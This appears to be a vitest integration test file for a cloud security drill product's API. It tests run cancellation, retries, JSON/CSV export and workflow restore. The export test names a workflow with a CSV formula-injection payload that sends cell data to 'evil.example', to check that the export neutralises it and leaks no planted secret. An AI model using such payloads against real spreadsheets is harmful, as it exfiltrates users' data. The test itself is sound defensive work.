import { createHash, randomUUID } from 'node:crypto';
import { sql } from 'kysely';
import { describe, expect, it } from 'vitest';
import { apiBase } from '#contract/calls.ts';
import { Execution, LastExecution, RetryPlan } from '#contract/executions.ts';
import type { Problem } from '#contract/problems.ts';
import { useProduct } from '#server/testing-product.ts';
import type { SignedInApi } from '#tools/api-client.ts';
import { deployBucket, deployKeys, finishedRun, publishDrill } from '#tools/drill.ts';

const used = useProduct();
const { newcomer } = used;

describe('cancelExecution and retryExecution over HTTP', () => {
  it('cancel, plan, retry and follow a run, each answer in the shape of the contract', async () => {
    const { api, token } = await newcomer();
    const [open, shut] = [
      await deployBucket(api, 'acme-open'),
      await deployBucket(api, 'acme-shut', { region: 'eu-west-1' }),
    ];
    const { id } = await publishDrill(api, 'Drill', await deployKeys(api), [open, shut]);
    await used.cloud.setFault({
      kind: 'throttle',
      operation: 'PutObject',
      region: 'eu-west-1',
      retryAfterSeconds: 45,
    });
    const { execution_id: execution } = await api.executeWorkflow({ id });
    const run = { id, execution };
    await expect
      .poll(async () => (await api.readExecution(run)).counts.completed, { timeout: 20_000 })
      .toBe(1);
    expect((await refused(() => api.retryExecution(run))).status).toBe(409);
    const cancelled = await fetch(
      `${used.product.url}${apiBase}/workflows/${id}/executions/${execution}/cancel`,
      {
        method: 'POST',
        headers: { authorization: `Bearer ${token}` },
      },
    );
    expect(cancelled.status).toBe(202);
    expect(await cancelled.json()).toEqual({ execution_id: execution, status: 'in_progress' });
    expect(await refused(() => api.cancelExecution(run))).toMatchObject({
      status: 409,
      type: '/problems/wrong-state',
      execution_id: execution,
    });
    const ended = await finishedRun(api, id, execution);
    expect(Execution.parse(ended)).toEqual(ended);
    expect(ended).toMatchObject({
      status: 'partial',
      counts: { targets: 2, completed: 1, failed: 0, cancelled: 1, kept: 0 },
      cancel_requested_at: expect.any(String) as string,
      retry_of: null,
      retried_by: null,
    });

    await used.cloud.clearFaults();
    const plan = await api.planRetry(run);
    expect(RetryPlan.parse(plan)).toEqual(plan);
    expect(plan).toMatchObject({ highest_cost: 1, enough_credits: true });
    expect(plan.steps.map(({ node_id, action }) => [node_id, action])).toEqual([
      ['n0', 'kept'],
      ['n1', 'kept'],
      ['n2', 'again'],
    ]);
    const again = await api.retryExecution(run);
    expect(again.status).toBe('in_progress');
    const second = await finishedRun(api, id, again.execution_id);
    expect(Execution.parse(second)).toEqual(second);
    expect(second).toMatchObject({
      status: 'completed',
      counts: { targets: 2, completed: 2, failed: 0, cancelled: 0, kept: 1 },
      retry_of: execution,
      cancel_requested_at: null,
      credits_used: 1,
    });
    expect(second.generate_result).toEqual(ended.generate_result);
    expect(second.source).toEqual(ended.source);
    expect(ended.source).toMatchObject({ node_id: 'n0', type: 'Generate', status: 'completed' });
    expect(second.deployment_results[0]).toEqual(ended.deployment_results[0]);
    expect(second.steps[1]).toMatchObject({
      kept_from: execution,
      log: [{ sentence: 'Kept from an earlier run. Nothing was charged.' }],
    });
    expect((await api.readExecution(run)).retried_by).toBe(again.execution_id);
    const listed = await api.listExecutions({ id });
    for (const one of listed.executions) expect(LastExecution.parse(one)).toEqual(one);
    expect(listed.executions.map((one) => [one.execution_id, one.retry_of])).toEqual([
      [again.execution_id, execution],
      [execution, null],
    ]);
    // The file of each place is the one of the first run, and can be read in both.
    for (const node of ['n1', 'n2']) {
      const files = await Promise.all(
        [execution, again.execution_id].map((one) => api.readPlantedFile({ id, execution: one, node })),
      );
      expect(files[0]).toEqual(files[1]);
    }
    const activity = (await api.listRecentActivities()).find(
      (one) => one.metadata['execution_id'] === again.execution_id,
    );
    expect(activity).toMatchObject({
      status: 'completed',
      credits_used: 1,
      metadata: { total_deployments: 2, successful_deployments: 2, retry_of: execution },
    });
  });
});

describe('retryExecution of an analysis', () => {
  it('checks the profile again, keeps what was found out, and reads the rest', async () => {
    const { api } = await newcomer();
    const deploy = (agentId: string, configuration: Record<string, string>) =>
      api.deployAgent({ agentId, configuration, deployment_hash: randomUUID() });
    const profile = await deploy('aws-profile', { profileName: 'acme-prod' });
    const analyzers = [
      await deploy('ami-provenance', { regions: 'us-east-1' }),
      await deploy('ami-provenance', { regions: 'eu-west-1' }),
    ];
    const { id } = await publishDrill(api, 'Analysis', profile, analyzers);
    await used.cloud.setFault({
      kind: 'error',
      service: 'ec2',
      region: 'eu-west-1',
      code: 'UnauthorizedOperation',
    });
    const { execution_id: execution } = await api.executeWorkflow({ id });
    const first = await finishedRun(api, id, execution);
    expect(first.steps.map(({ status }) => status)).toEqual(['completed', 'completed', 'failed']);
    await used.cloud.clearFaults();
    const before = (await api.readCreditBalance()).current_credits;
    const plan = await api.planRetry({ id, execution });
    expect(plan.highest_cost).toBe(1);
    expect(plan.steps.map(({ action, sentence, run_price }) => [action, sentence, run_price])).toEqual([
      ['again', 'Check that the credentials of acme-prod work', 0],
      ['kept', `Keep the result of ${analyzers[0]?.name}`, 0],
      ['again', 'Read 1 region of acme-prod; write nothing', 1],
    ]);
    const again = await api.retryExecution({ id, execution });
    const second = await finishedRun(api, id, again.execution_id);
    expect(second).toMatchObject({ status: 'completed', credits_used: 1 });
    expect((await api.readCreditBalance()).current_credits).toBe(before - 1);
    const exported = JSON.parse(
      (await api.exportExecution({ id, execution: again.execution_id })) as unknown as string,
    ) as {
      run: { steps: { kept_from: string | null; analysis: { total_instances: number } | null }[] };
    };
    expect(exported.run.steps.map((step) => [step.kept_from, step.analysis === null])).toEqual([
      [null, true],
      [execution, false],
      [null, false],
    ]);
    // What the first run read is told by the second, too.
    expect(first.analyzer_results?.['total_instances']).toBeGreaterThan(0);
    expect(second.analyzer_results?.['total_instances']).toBeGreaterThan(
      Number(first.analyzer_results?.['total_instances']),
    );
  });
});

describe('exportExecution', () => {
  it('gives the record as JSON and as CSV, harmless in a spreadsheet and without any secret', async () => {
    const { api, token } = await newcomer();
    const bucket = await deployBucket(api, 'acme-export');
    const name = '=HYPERLINK("https://evil.example?"&A1,"a, b")';
    const { id } = await publishDrill(api, name, await deployKeys(api), [bucket]);
    const { execution_id: execution } = await api.executeWorkflow({ id });
    const run = await finishedRun(api, id, execution);
    const secrets = await secretsOf(api, id, execution);
    expect(secrets.length).toBeGreaterThan(0);

    const json = await download(token, id, execution, '');
    expect(json.type).toBe('application/json; charset=utf-8');
    expect(json.disposition).toMatch(
      /^attachment; filename="run-\d{4}-\d\d-\d\dT\d\d-\d\d-\d\d-[0-9a-f]{8}\.json"/,
    );
    const written = JSON.parse(json.text) as { run_sha256: string; run: Record<string, unknown> };
    expect(createHash('sha256').update(JSON.stringify(written.run)).digest('hex')).toBe(written.run_sha256);
    expect(written.run).toMatchObject({
      workflow_name: name,
      execution_id: execution,
      status: 'completed',
      credits_used: 1,
      finished_at: run.finished_at,
      steps: [
        { node_id: 'n0', credits: 0, file: null },
        {
          node_id: 'n1',
          credits: 1,
          location: 's3://acme-export/backup-keys.py',
          planted_state: 'planted',
          file: { name: 'backup-keys.py', secrets: [{ secret_type: 'aws-access-key' }, {}] },
        },
      ],
    });
    const later = await download(token, id, execution, '?format=json');
    expect((JSON.parse(later.text) as { run_sha256: string }).run_sha256).toBe(written.run_sha256);

    const csv = await download(token, id, execution, '?format=csv');
    expect(csv.type).toBe('text/csv; charset=utf-8');
    const lines = csv.text.split('\r\n');
    expect(lines).toHaveLength(4);
    expect(lines[0]).toMatch(/^"workflow_name","execution_id","run_status",/);
    expect(lines[2]).toContain(
      `"'=HYPERLINK(""https://evil.example?""&A1,""a, b"")","${execution}","completed"`,
    );
    expect(lines[2]).toContain('"s3://acme-export/backup-keys.py","planted","backup-keys.py"');
    for (const secret of secrets) {
      for (const { text } of [json, csv]) expect(text).not.toContain(secret);
    }
  });

  it('tells in the CSV of an analysis every image, counter, finding and error', async () => {
    const { api, token } = await newcomer();
    const deploy = (agentId: string, configuration: Record<string, string>) =>
      api.deployAgent({ agentId, configuration, deployment_hash: randomUUID() });
    const { id } = await publishDrill(api, 'Analysis', await deploy('aws-profile', { profileName: 'acme' }), [
      await deploy('ami-provenance', { regions: 'us-east-1, eu-west-1' }),
    ]);
    await used.cloud.setFault({
      kind: 'error',
      service: 'ec2',
      region: 'eu-west-1',
      code: 'UnauthorizedOperation',
    });
    const { execution_id: execution } = await api.executeWorkflow({ id });
    const { analyzer_results: found } = await finishedRun(api, id, execution);
    await used.cloud.clearFaults();
    const csv = await download(token, id, execution, '?format=csv');
    const lines = readCsv(csv.text);
    const of = (section: string) => lines.filter((line) => line['section'] === section);
    expect(of('').map(({ type, credits }) => [type, credits])).toEqual([
      ['Configure', '0'],
      ['Analyzer', '1'],
    ]);
    expect(of('summary')).toMatchObject([{ state: 'partial', message: found?.summary }]);
    expect(of('errors').map(({ region, call }) => [region, call])).toEqual(
      found?.errors.map(({ region, call }) => [region, call]),
    );
    expect(of('findings').map(({ message }) => message)).toEqual(
      found?.findings?.map(({ message }) => message),
    );
    expect(of('counters')).toContainEqual(
      expect.objectContaining({ item: 'total_instances', count: String(found?.['total_instances']) }),
    );
    expect(of('ami_data').map(({ item, kind }) => [item, kind])).toEqual(
      Object.entries(found?.ami_data ?? {}).flatMap(([item, all]) => all.map(({ type }) => [item, type])),
    );
    expect(of('known_vendors').length).toBeGreaterThan(0);
    for (const { node_id: node } of lines.slice(1)) expect(node).toBe('n1');
  });

  it('knows two formats, and no run of somebody else', async () => {
    const { api, token } = await newcomer();
    const { id } = await publishDrill(api, 'Drill', await deployKeys(api), [
      await deployBucket(api, 'acme-formats'),
    ]);
    const { execution_id: execution } = await api.executeWorkflow({ id });
    await finishedRun(api, id, execution);
    for (const format of ['xml', '', 'JSON', 'json&format=csv', '%00', '__proto__']) {
      expect((await download(token, id, execution, `?format=${format}`)).status, format).toBe(422);
    }
    const mallory = await newcomer();
    expect((await download(mallory.token, id, execution, '')).status).toBe(404);
    expect((await download(token, id, randomUUID(), '')).status).toBe(404);
  });
});

describe('restoreWorkflow', () => {
  it('brings a deleted workflow back as it was, with its runs, and is harmless twice', async () => {
    const { api } = await newcomer();
    const [keys, bucket] = [await deployKeys(api), await deployBucket(api, 'acme-back')];
    const { id } = await publishDrill(api, 'Comes back', keys, [bucket]);
    const { execution_id: execution } = await api.executeWorkflow({ id });
    await finishedRun(api, id, execution);
    const before = await api.readWorkflow({ id });
    const other = await publishDrill(api, 'Stays', keys, [bucket]);
    const isDeleted = async () => (await api.readExecution({ id, execution })).workflow_deleted;
    expect(await isDeleted()).toBe(false);
    await api.deleteWorkflow({ id });
    expect(await isDeleted()).toBe(true);
    expect((await api.listWorkflows()).workflows.map((one) => one.id)).toEqual([other.id]);
    for (let nth = 0; nth < 2; nth += 1) {
      expect(await api.restoreWorkflow({ id })).toEqual(before);
      expect((await api.listWorkflows()).workflows.map((one) => one.id)).toEqual([other.id, id]);
    }
    expect(await isDeleted()).toBe(false);
    expect((await api.listExecutions({ id })).total).toBe(1);
    // Its agents are in use again.
    await api.deleteWorkflow({ id: other.id });
    expect((await refused(() => api.deleteDeployment({ id: bucket.id }))).status).toBe(409);
    const { execution_id } = await api.executeWorkflow({ id });
    expect((await finishedRun(api, id, execution_id)).status).toBe('completed');
  });

  it('leaves the run that the deletion cancelled cancelled', async () => {
    const { api } = await newcomer();
    const { id } = await publishDrill(api, 'Cut off', await deployKeys(api), [
      await deployBucket(api, 'acme-cut'),
    ]);
    await used.cloud.setFault({ kind: 'throttle', operation: 'PutObject', retryAfterSeconds: 45 });
    const { execution_id: execution } = await api.executeWorkflow({ id });
    await expect
      .poll(async () => (await api.readExecution({ id, execution })).steps[1]?.status)
      .toBe('running');
    await api.deleteWorkflow({ id });
    await api.restoreWorkflow({ id });
    expect((await finishedRun(api, id, execution)).status).toBe('cancelled');
    expect((await api.readWorkflow({ id })).status).toBe('cancelled');
  });

  it('is refused after ten minutes, and by name when an agent is gone', async () => {
    const { api } = await newcomer();
    const [keys, bucket] = [await deployKeys(api), await deployBucket(api, 'acme-late')];
    const late = await publishDrill(api, 'Late', keys, [bucket]);
    await api.deleteWorkflow({ id: late.id });
    await sql`update workflows set deleted_at = deleted_at - interval '11 minutes' where id = ${late.id}`.execute(
      used.owner.db,
    );
    expect(await refused(() => api.restoreWorkflow({ id: late.id }))).toMatchObject({
      status: 409,
      detail:
        'This workflow was deleted more than ten minutes ago, so it cannot be restored. Its runs are still on record.',
    });
    const orphan = await publishDrill(api, 'Orphan', keys, [bucket]);
    await api.deleteWorkflow({ id: orphan.id });
    await api.deleteDeployment({ id: bucket.id });
    const gone = await refused(() => api.restoreWorkflow({ id: orphan.id }));
    expect(gone).toMatchObject({ status: 409 });
    expect(gone.detail).toContain(`${bucket.name} was deleted meanwhile`);
    expect((await api.listWorkflows()).total).toBe(0);
  });

  it('and the deletion of its agent at the same time: exactly one wins', async () => {
    const { api } = await newcomer();
    const keys = await deployKeys(api);
    for (let round = 0; round < 10; round += 1) {
      const bucket = await deployBucket(api, `acme-tie-${round}`);
      const { id } = await publishDrill(api, 'Tie', keys, [bucket]);
      await api.deleteWorkflow({ id });
      const both = await Promise.allSettled([
        api.restoreWorkflow({ id }),
        api.deleteDeployment({ id: bucket.id }),
      ]);
      expect(both.filter((one) => one.status === 'fulfilled')).toHaveLength(1);
      for (const one of both)
        if (one.status === 'rejected') expect(one.reason).toMatchObject({ status: 409 });
    }
  });
});

/** Each line by the names of its columns, where no text breaks a line. */
function readCsv(text: string): Record<string, string>[] {
  const cells = (line: string) =>
    [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(([, quoted, bare]) =>
      (quoted ?? bare ?? '').replaceAll('""', '"'),
    );
  const [head = '', ...lines] = text
    .replace(/^\uFEFF/, '')
    .trimEnd()
    .split('\r\n');
  const columns = cells(head);
  return lines.map((line) =>
    Object.fromEntries(cells(line).map((cell, nth) => [columns[nth] ?? String(nth), cell])),
  );
}

async function download(token: string, id: string, execution: string, query: string) {
  const answer = await fetch(
    `${used.product.url}${apiBase}/workflows/${id}/executions/${execution}/export${query}`,
    { headers: { authorization: `Bearer ${token}` } },
  );
  return {
    status: answer.status,
    type: answer.headers.get('content-type'),
    disposition: answer.headers.get('content-disposition'),
    text: await answer.text(),
  };
}

/** The values that were planted, cut out of the file by where they stand. */
async function secretsOf(api: SignedInApi['api'], id: string, execution: string): Promise<string[]> {
  const text = (await api.readPlantedFile({ id, execution, node: 'n1' })) as unknown as string;
  const { rows } = await sql<{ spans: { start: number; end: number }[] }>`
    select spans from files where execution_id = ${execution}`.execute(used.owner.db);
  return rows.flatMap(({ spans }) => spans.map(({ start, end }) => text.slice(start, end)));
}

async function refused(ask: () => Promise<unknown>): Promise<Problem> {
  const outcome = await ask().then(
    () => 'it was not refused',
    (refusal: { problem: Problem }) => refusal.problem,
  );
  if (typeof outcome === 'string') throw new Error(outcome);
  return outcome;
}
